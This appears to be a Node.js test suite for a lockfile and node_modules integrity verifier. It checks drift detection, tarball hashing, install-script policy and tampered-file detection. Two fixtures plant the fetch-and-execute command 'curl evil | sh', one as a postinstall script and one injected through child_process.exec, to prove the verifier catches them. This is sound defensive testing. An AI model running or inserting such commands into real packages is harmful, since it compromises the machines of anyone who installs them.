import { test, describe, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { generateFromRoot, scriptPolicy, serialise } from '../../../scripts/lib/requirements.ts';
import { diffRequirements } from '../../../scripts/lib/lock-diff.ts';
import { contentPath } from '../../../scripts/lib/npm-cache.ts';
import { makeFixture, writeJson, type Fixture } from './fixture.ts';

const REPO = resolve(dirname(import.meta.dirname), '..', '..');
const LOCK_CLI = join(REPO, 'scripts', 'lock.ts');

function lockCli(args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [LOCK_CLI, ...args], { encoding: 'utf8', timeout: 60_000 });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr };
}

const fixtures: Fixture[] = [];
after(() => { for (const f of fixtures) rmSync(f.root, { recursive: true, force: true }); });

const LONG_PATH = `lib/${'deeply-nested-directory/'.repeat(5)}a-file-name-well-over-one-hundred-characters.js`;

function fixture(extra: { allow?: Record<string, boolean> } = {}): Fixture {
  const f = makeFixture([
    { path: 'node_modules/left-pad', name: 'left-pad', version: '1.3.0', license: 'WTFPL', files: { [LONG_PATH]: 'x;\n', '.gitignore': 'build\n' } },
    { path: 'node_modules/@scope/util', name: '@scope/util', version: '2.0.1' },
    { path: 'node_modules/@scope/util/node_modules/left-pad', name: 'left-pad', version: '1.1.0' },
    { path: 'node_modules/native-thing', name: 'native-thing', version: '0.4.0', hasInstallScript: true, scripts: { install: 'node-gyp rebuild' } },
    { path: 'node_modules/fsevents-like', name: 'fsevents-like', version: '2.0.0', optional: true, installed: false },
  ], extra.allow ?? { 'native-thing': false });
  fixtures.push(f);
  assert.equal(lockCli(['generate', '--root', f.root]).code, 0);
  return f;
}

describe('requirements.lock.json (repository)', () => {
  test('the committed requirements.lock.json is exactly what generate produces from package-lock.json', () => {
    const gen = generateFromRoot(REPO);
    assert.ok(gen.ok, gen.ok ? '' : gen.message);
    const committed = readFileSync(join(REPO, 'requirements.lock.json'), 'utf8');
    assert.deepEqual(diffRequirements(gen.value, committed), [], 'run `npm run lock:gen` and commit requirements.lock.json');
  });

  test('records every package-lock entry with sha512 integrity, a license and the install-script policy', () => {
    const lock = JSON.parse(readFileSync(join(REPO, 'package-lock.json'), 'utf8')) as { packages: Record<string, unknown> };
    const req = JSON.parse(readFileSync(join(REPO, 'requirements.lock.json'), 'utf8')) as {
      node: { pinned: string }; packages: { path: string; integrity: string; license: string; hasInstallScript: boolean; installScript: string }[];
    };
    assert.deepEqual(req.packages.map((p) => p.path), Object.keys(lock.packages).filter((k) => k !== '').sort());
    for (const p of req.packages) {
      assert.match(p.integrity, /^sha512-/, p.path);
      assert.notEqual(p.license, 'UNKNOWN', p.path);
      assert.equal(p.installScript === 'none', !p.hasInstallScript, p.path);
      assert.notEqual(p.installScript, 'unlisted', `${p.path} runs an install script not listed in allowScripts`);
    }
    assert.equal(req.node.pinned, process.versions.node);
  });
});

describe('lock.ts check (drift)', () => {
  test('passes right after generate and is byte-stable across runs', () => {
    const f = fixture();
    const first = readFileSync(join(f.root, 'requirements.lock.json'), 'utf8');
    assert.equal(lockCli(['check', '--root', f.root]).code, 0);
    assert.equal(lockCli(['generate', '--root', f.root]).code, 0);
    assert.equal(readFileSync(join(f.root, 'requirements.lock.json'), 'utf8'), first);
  });

  test('reports drift with the changed path and field when package-lock.json changes a version', () => {
    const f = fixture();
    const lockFile = join(f.root, 'package-lock.json');
    const lock = JSON.parse(readFileSync(lockFile, 'utf8')) as { packages: Record<string, { version: string }> };
    const entry = lock.packages['node_modules/left-pad'];
    assert.ok(entry);
    entry.version = '1.3.1';
    writeJson(lockFile, lock);
    const r = lockCli(['check', '--root', f.root]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /node_modules\/left-pad\.version: expected "1\.3\.1", found "1\.3\.0"/);
    assert.match(r.stdout, /lock\.source\.sha256/);
  });

  test('reports a hand-edited requirements.lock.json (entry removed) as drift', () => {
    const f = fixture();
    const file = join(f.root, 'requirements.lock.json');
    const req = JSON.parse(readFileSync(file, 'utf8')) as { packages: { path: string }[] };
    req.packages = req.packages.filter((p) => p.path !== 'node_modules/@scope/util');
    writeFileSync(file, JSON.stringify(req, null, 2) + '\n');
    const r = lockCli(['check', '--root', f.root]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /node_modules\/@scope\/util: in package-lock\.json but missing from requirements\.lock\.json/);
  });

  test('treats a reformatted but equal file as drift so the committed bytes stay canonical', () => {
    const f = fixture();
    const gen = generateFromRoot(f.root);
    assert.ok(gen.ok);
    assert.deepEqual(diffRequirements(gen.value, serialise(gen.value)), []);
    assert.equal(diffRequirements(gen.value, JSON.stringify(gen.value)).length, 1);
  });
});

describe('lock.ts verify (node_modules)', () => {
  test('passes on a clean install, re-hashing every cached tarball and skipping an uninstalled optional package', () => {
    const f = fixture();
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 0, r.stdout);
    assert.match(r.stdout, /checked 4 packages: 4 integrity-verified from the npm cache, 0 unverifiable/);
    assert.match(r.stdout, /1 optional not installed/);
  });

  test('fails on an extra package in node_modules that is not locked', () => {
    const f = fixture();
    writeJson(join(f.root, 'node_modules', 'evil', 'package.json'), { name: 'evil', version: '6.6.6' });
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /FAIL not in lock: node_modules\/evil \(evil@6\.6\.6\)/);
  });

  test('fails when an installed package version differs from the lock (nested path too)', () => {
    const f = fixture();
    writeJson(join(f.root, 'node_modules/@scope/util/node_modules/left-pad/package.json'), { name: 'left-pad', version: '9.9.9' });
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /version mismatch: node_modules\/@scope\/util\/node_modules\/left-pad is left-pad@9\.9\.9, locked left-pad@1\.1\.0/);
  });

  test('fails when a locked, non-optional package is missing', () => {
    const f = fixture();
    rmSync(join(f.root, 'node_modules/left-pad'), { recursive: true });
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /missing: node_modules\/left-pad \(left-pad@1\.3\.0\)/);
  });

  test('fails with "install script not allowed" for a package with an install script absent from allowScripts', () => {
    const f = fixture({ allow: {} });
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /install script not allowed: native-thing@0\.4\.0/);
  });

  test('fails when an installed package declares a postinstall script the lock does not record', () => {
    const f = fixture();
    writeJson(join(f.root, 'node_modules/left-pad/package.json'), { name: 'left-pad', version: '1.3.0', scripts: { postinstall: 'curl evil | sh' } });
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /install script not locked: left-pad \(postinstall\)/);
  });

  test('fails when the cached tarball does not hash to the locked integrity', () => {
    const f = fixture();
    const file = contentPath(f.cache, f.integrityOf('node_modules/left-pad'));
    assert.ok(file);
    writeFileSync(file, 'tampered tarball');
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /integrity mismatch: node_modules\/left-pad cached tarball hashes to sha512-/);
  });

  test('reports a tarball missing from the cache as unverifiable, and fails on it only with --strict', () => {
    const f = fixture();
    const file = contentPath(f.cache, f.integrityOf('node_modules/@scope/util'));
    assert.ok(file);
    rmSync(file);
    const lax = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(lax.code, 0, lax.stdout);
    assert.match(lax.stdout, /unverifiable: node_modules\/@scope\/util/);
    const strict = lockCli(['verify', '--strict', '--root', f.root, '--cache', f.cache]);
    assert.equal(strict.code, 1);
    assert.match(strict.stdout, /unverifiable \(strict\): node_modules\/@scope\/util/);
  });
});

describe('lock.ts verify (installed files against the locked tarballs)', () => {
  test('passes when every installed file equals its tarball copy, including long GNU tar names and .gitignore installed as .npmignore', () => {
    const f = fixture();
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 0, r.stdout);
    assert.match(r.stdout, /; 10 files compared with their tarballs/);
  });

  test('fails when a file inside an installed package was modified', () => {
    const f = fixture();
    writeFileSync(join(f.root, 'node_modules/@scope/util/lib/index.js'), 'require("child_process").exec("curl evil|sh");\n');
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /modified files in node_modules\/@scope\/util \(differ from the locked tarball\): lib\/index\.js/);
  });

  test('fails when a file from the tarball is missing or a file was added to a package without install scripts', () => {
    const f = fixture();
    rmSync(join(f.root, 'node_modules/left-pad', LONG_PATH));
    writeFileSync(join(f.root, 'node_modules/left-pad/lib/backdoor.js'), '1;\n');
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /files missing from node_modules\/left-pad: lib\/deeply-nested-directory\//);
    assert.match(r.stdout, /files in node_modules\/left-pad that are not in the locked tarball: lib\/backdoor\.js/);
  });

  test('fails when a denied install script evidently ran (build output present)', () => {
    const f = fixture();
    mkdirSync(join(f.root, 'node_modules/native-thing/build/Release'), { recursive: true });
    writeFileSync(join(f.root, 'node_modules/native-thing/build/Release/native.node'), 'ELF');
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 1);
    assert.match(r.stdout, /install script ran although denied in allowScripts: native-thing \(added build\/Release\/native\.node\)/);
  });

  test('reports files added by an allowed install script as a note, not a failure', () => {
    const f = fixture({ allow: { 'native-thing': true } });
    mkdirSync(join(f.root, 'node_modules/native-thing/build'), { recursive: true });
    writeFileSync(join(f.root, 'node_modules/native-thing/build/native.node'), 'ELF');
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 0, r.stdout);
    assert.match(r.stdout, /note: node_modules\/native-thing: files added by its allowed install script: build\/native\.node/);
  });

  test('--shallow skips the file comparison but keeps the tarball integrity check', () => {
    const f = fixture();
    writeFileSync(join(f.root, 'node_modules/left-pad/lib/index.js'), 'changed\n');
    const r = lockCli(['verify', '--shallow', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 0, r.stdout);
    assert.match(r.stdout, /4 integrity-verified from the npm cache.*; 0 files compared/);
  });
});

describe('lock.ts verify (packages installed by an allowed install script)', () => {
  const pkgs = (runtimeTampered = false) => [
    { path: 'node_modules/runtime', name: 'runtime', version: '1.0.0', hasInstallScript: true, scripts: { preinstall: 'node fetch-binary.js' } },
    { path: 'node_modules/runtime/node_modules/runtime-linux-x64', name: 'runtime-linux-x64', version: '1.0.0', hiddenLock: true, files: { 'bin/tool': runtimeTampered ? 'x' : 'ELF binary' } },
  ];

  test('accepts a nested package the allowed script installed when its hidden-lockfile integrity matches the cache and its files', () => {
    const f = makeFixture(pkgs(), { runtime: true });
    fixtures.push(f);
    assert.equal(lockCli(['generate', '--root', f.root]).code, 0);
    const r = lockCli(['verify', '--root', f.root, '--cache', f.cache]);
    assert.equal(r.code, 0, r.stdout);
    assert.match(r.stdout, /note: node_modules\/runtime\/node_modules\/runtime-linux-x64 \(runtime-linux-x64@1\.0\.0\) installed by the allowed install script of runtime/);
  });

  test('rejects the same nested package when the install script is denied, or when its files were changed', () => {
    const denied = makeFixture(pkgs(), { runtime: false });
    fixtures.push(denied);
    assert.equal(lockCli(['generate', '--root', denied.root]).code, 0);
    const r1 = lockCli(['verify', '--root', denied.root, '--cache', denied.cache]);
    assert.equal(r1.code, 1);
    assert.match(r1.stdout, /not in lock: node_modules\/runtime\/node_modules\/runtime-linux-x64/);

    const changed = makeFixture(pkgs(), { runtime: true });
    fixtures.push(changed);
    assert.equal(lockCli(['generate', '--root', changed.root]).code, 0);
    writeFileSync(join(changed.root, 'node_modules/runtime/node_modules/runtime-linux-x64/bin/tool'), 'trojan');
    const r2 = lockCli(['verify', '--root', changed.root, '--cache', changed.cache]);
    assert.equal(r2.code, 1);
    assert.match(r2.stdout, /modified files in node_modules\/runtime\/node_modules\/runtime-linux-x64 \(differ from the locked tarball\): bin\/tool/);
  });
});

describe('allowScripts policy', () => {
  test('follows npm: bare names and exact-version keys match, a matching deny wins, ranges never match', () => {
    const allow = { a: true, 'b@1.0.0||1.0.1': true, c: true, 'c@2.0.0': false, '@s/d@*': true, 'e@^1.0.0': true };
    assert.equal(scriptPolicy(allow, 'a', '9.9.9'), 'allowed');
    assert.equal(scriptPolicy(allow, 'b', '1.0.1'), 'allowed');
    assert.equal(scriptPolicy(allow, 'b', '1.0.2'), 'unlisted');
    assert.equal(scriptPolicy(allow, 'c', '2.0.0'), 'denied');
    assert.equal(scriptPolicy(allow, 'c', '2.0.1'), 'allowed');
    assert.equal(scriptPolicy(allow, '@s/d', '3.0.0'), 'allowed');
    assert.equal(scriptPolicy(allow, 'e', '1.0.0'), 'unlisted');
    assert.equal(scriptPolicy(allow, 'constructor', '1.0.0'), 'unlisted');
  });
});

describe('lock.ts CLI', () => {
  test('prints help with exit 0 and exits 2 on usage errors or unreadable input', () => {
    const help = lockCli(['--help']);
    assert.equal(help.code, 0);
    assert.match(help.stdout, /Exit codes: 0 ok/);
    assert.equal(lockCli([]).code, 2);
    assert.equal(lockCli(['frobnicate']).code, 2);
    assert.equal(lockCli(['verify', '--root']).code, 2);
    const f = fixture();
    writeFileSync(join(f.root, 'package-lock.json'), '{not json');
    const bad = lockCli(['check', '--root', f.root]);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /LOCK_ERR_PARSE/);
  });
});
